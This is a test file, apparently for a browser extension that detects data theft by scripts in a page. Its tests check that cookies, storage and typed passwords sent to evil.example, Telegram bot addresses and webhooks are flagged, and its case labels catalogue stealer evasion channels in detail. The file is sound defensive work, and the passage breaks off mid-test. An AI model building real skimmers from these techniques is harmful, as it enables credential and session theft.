/**
 * Exfiltration from the page world (issue 3, item 6): every channel a stealer uses — fetch, XHR,
 * sendBeacon, an image pixel (by `src`, `srcset`, a <picture>'s <source>, setAttributeNS, Attr nodes or markup),
 * a script pixel, a WebSocket, a form post — to unknown hosts and to the known channels (Telegram bot API,
 * Discord webhooks, paste and webhook sites), and a foreign script that reads cookies, storage or the
 * password and then sends (critical). The shop's analytics beacon, stock polling, captcha, its own
 * pictures set every one of those ways and an embedded payment form stay silent.
 */
import type { Page } from 'puppeteer';
import { expect, it } from 'vitest';
import {
  BENIGN,
  CLOSED_LOGIN,
  COOKIE_ADDRESSED_SCRIPT,
  DISCORD_WEBHOOK,
  HELPER_CDN,
  SHADOW_LOGIN,
  srcdocWidgetPage,
  TELEGRAM,
  type MainWorldScript,
} from '../helpers/hostile/main-world.ts';
import type { Verdict } from '../../src/shared/findings.ts';
import type { EvidenceReport } from '../../src/ui/evidence.ts';
import { pollPage, type SaqBrowser } from '../helpers/harness.ts';
import { describeEachBrowser, eventually } from './each-browser.ts';
import {
  describeVerdicts,
  loudAfterShopScript,
  maybeVerdict,
  recordMalicious,
  recordCase,
  serve,
  settleAndListLoud,
  sharedBrowser,
  verdicts,
  visit,
} from './sensors-main-support.ts';

const PRODUCT = '/kz/product/snow-leopard-silver';
const LOGIN = '/kz/login';
const BEHAVIOUR = 'exfiltration';
const helper = (name: string): string => `https://${HELPER_CDN}/${name}.js`;
/** A stranger's page that sends on what its address's fragment carries. */
const FRAGMENT_SINK = "fetch('/frame-sink', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) });";
const to = (prefix: string) => (verdict: Verdict) => String(verdict.finding.evidence.url).startsWith(prefix);

describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
  const browser = sharedBrowser(context);
  const { browserName } = context;

  /** A benign case: recorded for the detection table, then asserted to have raised nothing. */
  function expectSilent(task: Parameters<typeof recordCase>[0], label: string, noisy: Verdict[]): void {
    recordCase(task, { behaviour: BEHAVIOUR, case: label, malicious: false, flagged: noisy.length > 0, browser: browserName });
    expect(describeVerdicts(noisy)).toEqual([]);
  }

  /** For a benign case's `then`: waits until the partner's host has had `count` requests (there was something to judge). */
  const partnerRequests = (count: number, what: string) => (): Promise<void> =>
    eventually(
      async () => context.shop.requests.filter((r) => r.host === 'media.partner.test').length,
      (seen) => seen >= count,
      what,
    ).then(() => undefined);

  /** A benign case: the shop's own script run on a page of its own (loudAfterShopScript), and nothing raised. */
  function silentAfterShopScript(title: string, label: string, script: Parameters<typeof loudAfterShopScript>[2]): void {
    it(title, async ({ task }) => expectSilent(task, label, await loudAfterShopScript(context, await browser(), script)));
  }

  /**
   * Each case's SAQ-EXF-003 verdict, found by URL prefix (and by channel, where a case names one: `[via, label]`),
   * recorded for the detection table before anything is asserted.
   */
  async function criticalSends(
    task: Parameters<typeof recordCase>[0],
    saq: SaqBrowser,
    tabId: number,
    cases: Record<string, string | [string, string]>,
  ): Promise<Record<string, Verdict | null>> {
    const found: Record<string, Verdict | null> = {};
    for (const [prefix, value] of Object.entries(cases)) {
      const [via, label] = typeof value === 'string' ? [null, value] : value;
      found[prefix] = await maybeVerdict(
        saq,
        tabId,
        'SAQ-EXF-003',
        (v) => to(prefix)(v) && (via === null || v.finding.evidence.via === via),
      );
      recordCase(task, { behaviour: BEHAVIOUR, case: label, malicious: true, flagged: found[prefix] !== null, browser: browserName });
    }
    return found;
  }

  /**
   * Whether the page has the Navigation API, which the navigate-event cases need: Chromium always; Firefox since
   * 147 (Debian's firefox-esr has been 140 and 153 on different days) — asserted wherever it is due.
   */
  async function hasNavigationApi(page: Page): Promise<boolean> {
    const { api, firefox } = await page.evaluate(() => ({
      api: typeof (globalThis as { navigation?: unknown }).navigation === 'object',
      firefox: Number(/Firefox\/(\d+)/.exec(navigator.userAgent)?.[1] ?? 0),
    }));
    if (browserName === 'chromium' || firefox >= 147) expect(api, 'the Navigation API').toBe(true);
    return api;
  }

  /** The tab's evidence report as the popup saves it, as JSON text. */
  const evidenceReport = (saq: SaqBrowser, tabId: number): Promise<string> =>
    saq.inExtension(
      async (id) => JSON.stringify(await chrome.runtime.sendMessage({ type: 'evidence-report/popup-to-bg', tabId: id })),
      tabId,
    );

  /**
   * Every case found critical and done by the named helper script. `seen`: what the tab had instead, for the
   * message of a case that was not found (a case that fails only now and then in CI tells more that way).
   */
  function expectCriticalBy(found: Record<string, Verdict | null>, name: string, seen: readonly string[] = []): void {
    for (const [prefix, verdict] of Object.entries(found)) {
      const message = verdict === null && seen.length > 0 ? `${prefix}; the tab had:\n${seen.join('\n')}` : prefix;
      expect(verdict?.severity, message).toBe('critical');
      expect(verdict?.finding.actor.url, prefix).toBe(helper(name));
    }
  }

  it('calls a cookie and storage theft to the Telegram bot API by scripting.executeScript critical', async ({ task }) => {
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-exec=exfil-cookie`);
    const known = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', to(TELEGRAM));
    const afterRead = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', to(TELEGRAM));
    const read = await maybeVerdict(saq, tabId, 'SAQ-SEN-001', (v) => v.finding.evidence.target === 'cookie');
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'executeScript: cookie + localStorage → Telegram (fetch)',
      malicious: true,
      flagged: known !== null,
      browser: browserName,
    });
    expect(known?.severity).toBe('critical');
    expect(known?.finding.evidence).toMatchObject({ via: 'fetch', method: 'POST', host: 'api.telegram.org' });
    expect(afterRead?.finding.evidence.afterSensitiveRead).toBe(true);
    expect(read?.finding.actor.type).toBe(browserName === 'chromium' ? 'anonymous' : 'extension');
    // The session cookie went in the body, its path holds none: the saved report keeps the bot.
    expect(known?.finding.evidence).toMatchObject({ carriesSecret: true, secretSegments: '' });
    const report = JSON.parse(await evidenceReport(saq, tabId)) as EvidenceReport;
    expect(report.destinations).toEqual([TELEGRAM]);
  });

  it('catches a password sent out as an image pixel as it is typed', async ({ task }) => {
    serve(context, 'password-pixel');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${LOGIN}?saq-tag=password-pixel`);
    // The fixture extension loads the helper at document_idle: type once it is listening.
    await eventually(
      async () => context.shop.requests.some((request) => request.path === '/password-pixel.js'),
      Boolean,
      'the helper to load',
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    await page.type('[data-role="password"]', 'kazcoins-2026');
    const pixel = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.via === 'image');
    const read = await maybeVerdict(saq, tabId, 'SAQ-SEN-001', (v) => v.finding.evidence.target === 'password');
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'password read → image pixel',
      malicious: true,
      flagged: pixel !== null,
      browser: browserName,
    });
    expect(pixel?.severity).toBe('critical');
    expect(pixel?.finding.actor.url).toBe(helper('password-pixel'));
    expect(read?.finding.actor.url).toBe(helper('password-pixel'));
  });

  it('leaves a typed password sent in the path of a bot address out of the evidence report, keeping the bot', async ({ task }) => {
    const PASSWORD = 'Qx7-kazcoins';
    serve(context, 'password-path');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${LOGIN}?saq-tag=password-path`);
    await eventually(
      async () => context.shop.requests.some((request) => request.path === '/password-path.js'),
      Boolean,
      'the helper to load',
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    await page.type('[data-role="password"]', PASSWORD);
    const whole = `${TELEGRAM}/${encodeURIComponent(PASSWORD)}`;
    const sent = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.url === whole);
    const pixel = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', to('https://evil.example/ping/'));
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'password read as typed → the path of a Telegram bot address (fetch)',
      malicious: true,
      flagged: sent !== null,
      browser: browserName,
    });
    expect(sent?.severity).toBe('critical');
    // The stored finding names the segment (the ISOLATED world read the field); the report shows the rest.
    expect(sent?.finding.evidence.secretSegments).toBe('3');
    expect(pixel?.finding.evidence).not.toHaveProperty('secretSegments');
    const report = await evidenceReport(saq, tabId);
    // Nor any of the pieces the helper sent as the password grew.
    for (let length = 3; length <= PASSWORD.length; length++) expect(report).not.toContain(PASSWORD.slice(0, length));
    expect(report).toContain(`"${TELEGRAM}/…"`);
    expect(report).toContain('"https://evil.example/ping/v2/status.gif"');
  });

  it('leaves the cookie sent in a subdomain of the collector out of the evidence report, keeping the collector', async ({ task }) => {
    serve(context, 'cookie-subdomain');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=cookie-subdomain`);
    const pixel = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.via === 'image');
    const split = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.via === 'fetch');
    const halves = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.via === 'beacon');
    recordMalicious(task, BEHAVIOUR, browserName, [
      [pixel, 'cookie read → a subdomain of the collector (image)'],
      [split, 'cookie read → split over two subdomain labels (fetch)'],
      [halves, 'cookie read → split between a subdomain label and the path (beacon)'],
    ]);
    expect(pixel?.severity).toBe('critical');
    expect(split?.severity).toBe('critical');
    expect(halves?.severity).toBe('critical');
    // Neither the label nor the path carries it alone: both are named (stop 56; the report held the cookie before).
    expect(halves?.finding.evidence).toMatchObject({ carriesSecret: true, secretLabels: '0', secretSegments: '2' });
    // The ISOLATED world named the labels (the whole host where no single label carries it); the report shows the rest.
    expect(pixel?.finding.evidence).toMatchObject({ carriesSecret: true, secretLabels: '0' });
    expect(split?.finding.evidence).toMatchObject({ carriesSecret: true, secretLabels: '*' });
    const token = await page.evaluate(() => /(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie)?.[1] ?? '');
    expect(token).toMatch(/^[0-9a-f]{32}$/);
    const report = await evidenceReport(saq, tabId);
    for (const piece of [token, token.slice(0, 16), token.slice(16)]) expect(report).not.toContain(piece);
    expect(report).toContain('"https://….evil.example/p.gif"');
    expect(report).toContain('"https://…/c"');
    expect(report).toContain('"https://….evil.example/b/…"');
  });

  it('leaves the cookie in the address of a script the helper loads out of the evidence report and the popup', async ({ task }) => {
    serve(context, 'cookie-script-address');
    context.shop.setFixture('/k/*', COOKIE_ADDRESSED_SCRIPT, { host: 'evil.example', contentType: 'text/javascript' });
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=cookie-script-address`);
    await pollPage(page, () => (window as { __nextRan?: boolean }).__nextRan === true, undefined, 'the script at the cookie’s address');
    const token = await page.evaluate(() => /(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie)?.[1] ?? '');
    expect(token).toMatch(/^[0-9a-f]{32}$/);
    const next = `https://evil.example/k/${token}/next.js`;
    const inserted = await maybeVerdict(saq, tabId, 'SAQ-INJ-001', (v) => v.finding.evidence.src === next);
    const sent = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.actor.url === next);
    recordMalicious(task, BEHAVIOUR, browserName, [
      [inserted, 'cookie read → the address of the next script it loads (insertion)'],
      [sent, 'a script at an address carrying the cookie → sends it on (beacon)'],
    ]);
    // The ISOLATED world named the segment on the insertion and on the actor; the stored findings keep the address.
    expect(inserted?.finding.evidence.srcSecretSegments).toBe('2');
    expect(sent?.severity).toBe('critical');
    expect(sent?.finding.actor.secretSegments).toBe('2');
    const shown = 'https://evil.example/k/…/next.js';
    const report = await evidenceReport(saq, tabId);
    expect(report).not.toContain(token);
    expect(report).toContain(`"${shown}"`);
    const popup = await saq.openPopup(tabId);
    try {
      const actors = await popup.$$eval('.actor-url', (nodes) => nodes.map((node) => node.textContent ?? ''));
      expect(actors).toContain(shown);
      expect(actors.join(' ')).not.toContain(token);
    } finally {
      await popup.close();
    }
  });

  it('leaves a typed password out of the evidence report when its field is behind a shadow root', async ({ task }) => {
    const PASSWORD = 'Qx7-kazcoins';
    serve(context, 'shadow-password-path');
    context.shop.setFixture('/assets/sign-in.js', SHADOW_LOGIN.script, { contentType: 'text/javascript' });
    context.shop.setFixture('/kz/sign-in-component', SHADOW_LOGIN.page);
    const saq = await browser();
    const { page, tabId } = await visit(saq, '/kz/sign-in-component?saq-tag=shadow-password-path');
    await pollPage(page, () => (window as { __shadowPasswordPath?: boolean }).__shadowPasswordPath === true, undefined, 'the helper');
    await page.type('shop-sign-in >>> [type="password"]', PASSWORD);
    const whole = `${TELEGRAM}/${encodeURIComponent(PASSWORD)}`;
    const sent = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', (v) => v.finding.evidence.url === whole);
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'password read as typed behind a shadow root → the path of a Telegram bot address (fetch)',
      malicious: true,
      flagged: sent !== null,
      browser: browserName,
    });
    expect(sent?.severity).toBe('critical');
    expect(sent?.finding.evidence.secretSegments).toBe('3');
    const report = await evidenceReport(saq, tabId);
    for (let length = 3; length <= PASSWORD.length; length++) expect(report).not.toContain(PASSWORD.slice(0, length));
    expect(report).toContain(`"${TELEGRAM}/…"`);
  });

  it('leaves keys a keylogger sends in an address path out of the evidence report when the field is in a closed root', async ({ task }) => {
    const PASSWORD = 'qx7-kazcoins';
    serve(context, 'closed-keys-path');
    context.shop.setFixture('/assets/closed-sign-in.js', CLOSED_LOGIN.script, { contentType: 'text/javascript' });
    context.shop.setFixture('/kz/closed-sign-in', CLOSED_LOGIN.page);
    const saq = await browser();
    const { page, tabId } = await visit(saq, '/kz/closed-sign-in?saq-tag=closed-keys-path');
    await pollPage(page, () => (window as { __closedKeysPath?: boolean }).__closedKeysPath === true, undefined, 'the helper');
    // No selector reaches into a closed root: a click on the host focuses the field that fills it.
    await page.click('shop-password-field');
    await page.keyboard.type(PASSWORD);
    const whole = `${TELEGRAM}/${encodeURIComponent(PASSWORD)}`;
    const sent = await maybeVerdict(saq, tabId, 'SAQ-EXF-001', (v) => v.finding.evidence.url === whole);
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'keys of a password in a closed shadow root → the path of a Telegram bot address (fetch)',
      malicious: true,
      flagged: sent !== null,
      browser: browserName,
    });
    expect(sent?.finding.evidence.secretSegments).toBe('3');
    const report = await evidenceReport(saq, tabId);
    for (let length = 3; length <= PASSWORD.length; length++) expect(report).not.toContain(PASSWORD.slice(0, length));
    expect(report).toContain(`"${TELEGRAM}/…"`);
  });

  /** An image pixel the helper sends without `img.src`: the critical verdict for each URL, and the request really left. */
  async function imagePixels(task: Parameters<typeof recordCase>[0], name: MainWorldScript, cases: Record<string, string>) {
    serve(context, name);
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=${name}`);
    // The hook's report (via: image): the network timeline may also report the same load, with no actor.
    const byUrl = Object.fromEntries(
      Object.entries(cases).map(([path, label]) => [`https://evil.example${path}`, ['image', label] as [string, string]]),
    );
    const found = await criticalSends(task, saq, tabId, byUrl);
    for (const url of Object.keys(byUrl)) {
      expect(found[url]?.finding.evidence, url).toMatchObject({ via: 'image', method: 'GET', afterSensitiveRead: true });
      expect(found[url]?.finding.actor.url, url).toBe(helper(name));
      expect(found[url]?.severity, url).toBe('critical');
    }
    // Each channel is real: the browser fetched (or at least asked for) every pixel.
    await eventually(
      async () =>
        Object.keys(cases).filter((path) => !context.shop.requests.some((r) => r.host === 'evil.example' && r.path.startsWith(path))),
      (missing) => missing.length === 0,
      'every pixel to reach evil.example',
    );
  }

  it('catches a cookie sent as an image pixel through srcset (new Image, <picture> source)', async ({ task }) => {
    await imagePixels(task, 'srcset-pixel', {
      '/p-srcset.gif': 'cookie → image pixel (new Image().srcset)',
      '/p-source.gif': 'cookie → image pixel (<picture><source srcset>)',
    });
  });

  it('catches a cookie sent as an image pixel through setAttributeNS', async ({ task }) => {
    await imagePixels(task, 'attribute-ns-pixel', { '/p-ns.gif': "cookie → image pixel (setAttributeNS(null, 'src'))" });
  });

  it('catches a cookie sent as an image pixel through Attr nodes (setAttributeNode, Attr.value)', async ({ task }) => {
    await imagePixels(task, 'attribute-node-pixel', {
      '/p-node.gif': 'cookie → image pixel (setAttributeNode)',
      '/p-attr-value.gif': 'cookie → image pixel (Attr.value of an attached src)',
    });
  });

  it('catches cookie pixels the HTML parser creates (innerHTML, insertAdjacentHTML, outerHTML, a shadow root, a Range fragment, document.write)', async ({
    task,
  }) => {
    await imagePixels(task, 'markup-pixel', {
      '/p-inner.gif': 'cookie → image pixel (innerHTML of a detached element)',
      '/p-adjacent.gif': 'cookie → image pixel (insertAdjacentHTML <picture><source srcset>)',
      '/p-outer.gif': 'cookie → image pixel (outerHTML)',
      '/p-shadow.gif': 'cookie → image pixel (closed shadow root innerHTML)',
      '/p-fragment.gif': 'cookie → image pixel (Range.createContextualFragment)',
      '/p-object.gif': 'cookie → image pixel (innerHTML given an object whose toString makes the markup)',
      '/p-write.gif': "cookie → image pixel (document.write into a frame's document, the tag split over two writes)",
    });
  });

  it('catches cookies sent to URLs given as objects (toString) or as a URL whose href getter lies', async ({ task }) => {
    serve(context, 'object-urls');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=object-urls`);
    const cases: Record<string, [string, string]> = {
      'https://evil.example/o-fetch': ['fetch', 'cookie → fetch(an object whose toString is the URL)'],
      'https://evil.example/o-xhr': ['xhr', 'cookie → XHR open(method, an object whose toString is the URL)'],
      'https://evil.example/o-beacon': ['beacon', 'cookie → sendBeacon(an object whose toString is the URL)'],
      'wss://evil.example/o-socket': ['websocket', 'cookie → new WebSocket(an object whose toString is the URL)'],
      'https://evil.example/o-image.gif': ['image', 'cookie → img.src = an object whose toString is the URL'],
      'https://evil.example/o-attribute.gif': ['image', "cookie → img.setAttribute('src', an object whose toString is the URL)"],
      'https://evil.example/o-lying-href': ['fetch', 'cookie → fetch(a URL object whose href getter names the shop)'],
    };
    const found = await criticalSends(task, saq, tabId, cases);
    expectCriticalBy(found, 'object-urls');
  });

  /** The shop renews the session: its next answer sets a new anti-forgery token (checked). */
  const renewSession = async (page: Page): Promise<void> => {
    const before = await page.evaluate(() => document.cookie);
    context.shop.reset();
    await page.evaluate(() => fetch('/kz/', { credentials: 'same-origin' }).then((r) => r.text()));
    expect(await page.evaluate(() => document.cookie)).not.toBe(before);
  };

  it('catches a cookie value sent after the shop renewed its token: the value the page held before still counts', async ({ task }) => {
    serve(context, 'renewed-token');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=renewed-token`);
    await pollPage(page, () => (window as { __tokenRead?: boolean }).__tokenRead === true, undefined, 'the helper to read the cookie');
    await renewSession(page);
    await page.evaluate(() => void ((window as { __renewed?: boolean }).__renewed = true));
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/r-css.gif': 'cookie read, the token renewed, then the old value sent in a CSS background',
    });
    expect(found['https://evil.example/r-css.gif']?.severity).toBe('critical');
  });

  it('catches a cookie value the page held only between two renewals, read by the helper and sent after the second', async ({ task }) => {
    serve(context, 'renewed-twice');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=renewed-twice`);
    await renewSession(page);
    await page.evaluate(() => void ((window as { __renewedOnce?: boolean }).__renewedOnce = true));
    await pollPage(page, () => (window as { __tokenRead?: boolean }).__tokenRead === true, undefined, 'the helper to read the cookie');
    await renewSession(page);
    await page.evaluate(() => void ((window as { __renewed?: boolean }).__renewed = true));
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/r2-css.gif': 'cookie read between two renewals of the token, then sent in a CSS background',
    });
    expect(found['https://evil.example/r2-css.gif']?.severity).toBe('critical');
  });

  it('catches a cookie value the same code read again after a renewal, held only until the next one, sent after it', async ({ task }) => {
    serve(context, 'reread-renewed');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=reread-renewed`);
    await pollPage(page, () => (window as { __firstRead?: boolean }).__firstRead === true, undefined, 'the helper to read the cookie');
    await renewSession(page);
    await page.evaluate(() => void ((window as { __renewedOnce?: boolean }).__renewedOnce = true));
    await pollPage(page, () => (window as { __tokenRead?: boolean }).__tokenRead === true, undefined, 'the helper to read it again');
    await renewSession(page);
    await page.evaluate(() => void ((window as { __renewed?: boolean }).__renewed = true));
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/r3-css.gif':
        'cookie read, the token renewed, read again, renewed again, the second value sent in a CSS background',
    });
    expect(found['https://evil.example/r3-css.gif']?.severity).toBe('critical');
  });

  it('catches the cookie sent by loads no hook wraps: SVG, CSS, adopted nodes, Attr nodeValue, media, base64, hex, reversed, frames, prefetch', async ({
    task,
  }) => {
    serve(context, 'unhooked-pixels');
    const saq = await browser();
    const { page, tabId } = await visit(saq, `${PRODUCT}?saq-tag=unhooked-pixels`);
    // The replica's anti-forgery cookie is what a stealer can read; the helper sends it.
    expect(await page.evaluate(() => document.cookie)).toMatch(/XSRF-TOKEN=[0-9a-f]{32}/);
    const cases: Record<string, string> = {
      'https://evil.example/u-svg.gif': 'cookie → SVG <image> href',
      'https://evil.example/u-css.gif': 'cookie → CSS background (style property)',
      'https://evil.example/u-parsed.gif': 'cookie → <img> adopted from a DOMParser document',
      'https://evil.example/u-attr.gif': 'cookie → Attr changed through nodeValue (hooked: the helper named)',
      'https://evil.example/u-audio.wav': 'cookie → <audio> src',
      'https://evil.example/u-b64.gif': 'cookie in base64 → CSS background',
      'https://evil.example/u-hex.gif': 'cookie in hex → CSS background',
      'https://evil.example/u-rev.gif': 'cookie reversed → CSS background',
      'https://evil.example/u-frame?': 'cookie → iframe src',
      // The test profile turns Firefox's link prefetching off (tests/shop/browser-args.ts): nothing is sent there.
      ...(browserName === 'chromium' ? { 'https://evil.example/u-prefetch': 'cookie → <link rel=prefetch>' } : {}),
    };
    // Every load really left (the sink has it): a miss below is Saq's, not a load the browser put off.
    const paths = Object.keys(cases).map((prefix) => new URL(prefix).pathname);
    await eventually(
      async () => new Set(context.shop.requests.filter((r) => r.host === 'evil.example').map((r) => r.path.split('?')[0])),
      (sent) => paths.every((path) => sent.has(path)),
      `every load at the sink (${paths.join(', ')})`,
      20_000,
    );
    const found = await criticalSends(task, saq, tabId, cases);
    for (const prefix of Object.keys(cases)) {
      expect(found[prefix]?.severity, prefix).toBe('critical');
      // An Attr's nodeValue is a hooked write since stop 30 (main/attribute-writes.ts): the hook names the helper.
      if (prefix === 'https://evil.example/u-attr.gif') expect(found[prefix]?.finding.actor.url, prefix).toBe(helper('unhooked-pixels'));
      else expect(found[prefix]?.finding.evidence.afterSensitiveRead, prefix).toBe(true);
    }
  });

  it("catches the cookie sent by a same-origin frame's own loads: a srcdoc's <img> and CSS, an about:blank frame's CSS", async ({
    task,
  }) => {
    serve(context, 'frame-pixels');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=frame-pixels`);
    const cases: Record<string, string> = {
      'https://evil.example/f-srcdoc-img.gif': "cookie → a srcdoc frame's own <img>",
      'https://evil.example/f-srcdoc-css.gif': "cookie → a srcdoc frame's own style sheet",
      'https://evil.example/f-blank-css.gif': "cookie → an about:blank frame's CSS background",
      'https://evil.example/f-blinded-img.gif': "cookie → a srcdoc's <img>, the frame's timeline API replaced first",
      'https://evil.example/f-long.gif': "cookie → a srcdoc's <img>, past 4 KB of address",
      'https://evil.example/f-flood.gif': "cookie → a srcdoc's CSS, after 300 loads of nothing",
      'https://evil.example/f-shadow.gif': "cookie → a srcdoc's <img>, the frame in a closed shadow root",
      'https://evil.example/f-unbuffered.gif': "cookie → a srcdoc's <img>, its timeline shrunk to nothing first",
      'https://evil.example/f-sibling.gif': "cookie → a srcdoc's <img>, the 33rd frame of a srcdoc",
      'https://evil.example/f-deep.gif': "cookie → a srcdoc's <img>, six srcdoc frames deep",
    };
    const paths = Object.keys(cases).map((prefix) => new URL(prefix).pathname);
    await eventually(
      async () => new Set(context.shop.requests.filter((r) => r.host === 'evil.example').map((r) => r.path.split('?')[0])),
      (sent) => paths.every((path) => sent.has(path)),
      `every load at the sink (${paths.join(', ')})`,
      20_000,
    );
    const found = await criticalSends(task, saq, tabId, cases);
    for (const prefix of Object.keys(cases)) {
      expect(found[prefix]?.severity, prefix).toBe('critical');
      expect(found[prefix]?.finding.evidence, prefix).toMatchObject({ via: 'network', afterSensitiveRead: true });
    }
  });

  it('calls the cookie critical when one script reads it and another sends it, in a URL or a body', async ({ task }) => {
    serve(context, 'relayed-cookie');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=relayed-cookie`);
    const inUrl = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', to('https://evil.example/relay?'));
    const inBody = await maybeVerdict(saq, tabId, 'SAQ-EXF-003', to('https://evil.example/relay-body'));
    recordMalicious(task, BEHAVIOUR, browserName, [
      [inUrl, 'cookie read by the helper, sent in a URL by an inline script it inserts (fetch)'],
      [inBody, 'cookie read by the helper, sent in a body by an inline script it inserts (sendBeacon)'],
    ]);
    expect(inUrl?.severity).toBe('critical');
    expect(inUrl?.finding.evidence).toMatchObject({ via: 'fetch', afterSensitiveRead: true, carriesSecret: true });
    expect(inBody?.severity).toBe('critical');
    expect(inBody?.finding.evidence).toMatchObject({ via: 'beacon', afterSensitiveRead: true, carriesSecret: true });
    // The sender is the inline script, not the helper that read the cookie; the body itself never left the page.
    expect(inUrl?.finding.actor.type).toBe('inline');
    expect(inBody?.finding.evidence).not.toHaveProperty('bodyStart');
  });

  it('catches cookies sent to paths that are other hosts to the URL parser (/\\host, /<tab>/host, /<newline>/host)', async ({ task }) => {
    serve(context, 'slipped-urls');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=slipped-urls`);
    const found = await criticalSends(task, saq, tabId, {
      'https://evil.example/s-backslash.gif': ['image', "cookie → img.src = '/\\\\evil.example/…'"],
      'https://evil.example/s-tab.gif': ['image', "cookie → img.src = '/<tab>/evil.example/…'"],
      'wss://evil.example/s-socket': ['websocket', "cookie → new WebSocket('/\\\\evil.example/…')"],
      'https://evil.example/s-window': ['window', "cookie → window.open('/<newline>/evil.example/…')"],
    });
    expectCriticalBy(found, 'slipped-urls');
  });

  it('lets a URL or code object whose toString throws once fail the call as it would without Saq', async ({ task }) => {
    serve(context, 'throw-once-urls');
    const saq = await browser();
    const { page } = await visit(saq, `${PRODUCT}?saq-tag=throw-once-urls`);
    const outcome = await eventually(
      () => page.evaluate(() => (window as unknown as { __throwOnce?: Record<string, string> }).__throwOnce ?? null),
      (o) => o !== null && Object.keys(o).length === 4 && !Object.values(o).includes('made'),
      'the helper to try all four calls',
    );
    const expected = { fetch: 'failed: not yet', socket: 'failed: not yet', beacon: 'failed: not yet', timer: 'failed: not yet' };
    for (const [name, result] of Object.entries(outcome ?? {}))
      recordCase(task, {
        behaviour: BEHAVIOUR,
        case: `a ${name} URL or code whose toString throws once: the call fails, nothing unjudged leaves`,
        malicious: true,
        flagged: result === 'failed: not yet',
        browser: browserName,
      });
    // Without Saq the browser's own conversion is the first and throws: the call fails with the page's error.
    expect(outcome).toEqual(expected);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(await page.evaluate(() => (window as unknown as { __throwOnceRan?: boolean }).__throwOnceRan ?? false)).toBe(false);
    expect(context.shop.requests.filter((r) => r.host === 'evil.example' && r.path.startsWith('/t-')).map((r) => r.path)).toEqual([]);
  });

  it('names nobody — never the shop — when natives the helper bound run from a promise or a timer', async ({ task }) => {
    serve(context, 'bound-natives');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=bound-natives`);
    const pixel = await maybeVerdict(
      saq,
      tabId,
      'SAQ-EXF-001',
      (v) => to('https://evil.example/b-bound.gif')(v) && v.finding.evidence.via === 'image',
    );
    const read = await maybeVerdict(saq, tabId, 'SAQ-SEN-001', (v) => v.finding.evidence.target === 'cookie');
    const click = await maybeVerdict(saq, tabId, 'SAQ-ACT-001');
    recordMalicious(task, BEHAVIOUR, browserName, [
      [pixel, 'cookie hex-encoded → a bound img src setter run by a timer'],
      [read, 'cookie read by a bound getter run by a promise'],
      [click, 'add to cart clicked by a bound click() run by a timer'],
    ]);
    // No frame of the helper's is on the stack: `unknown` — or the helper itself where Firefox records the
    // timer's async parent frames (it does while a WebDriver session drives it, some runs). Never the shop.
    for (const verdict of [pixel, read, click]) {
      const actor = verdict?.finding.actor;
      expect(actor?.type === 'unknown' || (actor?.type === 'script' && actor.url === helper('bound-natives')), JSON.stringify(actor)).toBe(
        true,
      );
    }
  });

  it('catches the cookie carried off in the URL of a window it opens (window.open, document.open, a URL object)', async ({ task }) => {
    serve(context, 'opened-window');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=opened-window`);
    const cases: Record<string, string> = {
      'https://evil.example/w-open': 'cookie → window.open URL',
      'https://evil.example/w-document': 'cookie → document.open(url, name, features) URL',
      'https://evil.example/w-object': 'cookie → window.open(an object whose toString is the URL)',
    };
    const found = await criticalSends(task, saq, tabId, cases);
    for (const prefix of Object.keys(cases)) {
      expect(found[prefix]?.severity, prefix).toBe('critical');
      expect(found[prefix]?.finding.evidence, prefix).toMatchObject({ via: 'window', afterSensitiveRead: true });
      expect(found[prefix]?.finding.actor.url, prefix).toBe(helper('opened-window'));
    }
  });

  it('catches a pixel hidden after more srcset candidates than Saq parses', async ({ task }) => {
    await imagePixels(task, 'srcset-overflow-pixel', { '/p-overflow.gif': 'cookie → image pixel (41-candidate srcset)' });
  });

  it('catches storage sent by sendBeacon to a webhook site', async ({ task }) => {
    serve(context, 'beacon-storage');
    const saq = await browser();
    const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=beacon-storage`);
